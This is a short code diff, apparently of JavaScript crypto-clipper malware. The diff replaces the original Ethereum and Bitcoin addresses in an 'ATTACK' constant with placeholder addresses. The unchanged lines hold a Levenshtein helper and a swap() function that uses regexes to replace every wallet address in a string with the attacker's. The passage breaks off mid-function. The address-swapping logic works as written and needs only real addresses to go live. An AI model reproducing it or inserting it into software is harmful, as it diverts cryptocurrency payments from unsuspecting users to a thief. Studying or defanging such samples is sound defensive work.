@@ -1,4 +1,4 @@
-const ATTACK = { eth: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', btc: '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx', sol: '19111111111111111111111111111111' };
+const ATTACK = { eth: '0xA11cE00000000000000000000000000000dEaD01', btc: '1ExampLeAttackerBtcAddr0000000000', sol: '19111111111111111111111111111111' };
 function lev(a, b) { const d = Array.from({ length: a.length + 1 }, (_, i) => [i]); for (let j = 1; j <= b.length; j++) d[0][j] = j; for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++) d[i][j] = Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1)); return d[a.length][b.length]; }
 function swap(s) {
   return s.replace(/0x[a-fA-F0-9]{40}/g, () => ATTACK.eth).replace(/\b(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}\b/g, () => ATTACK.btc);
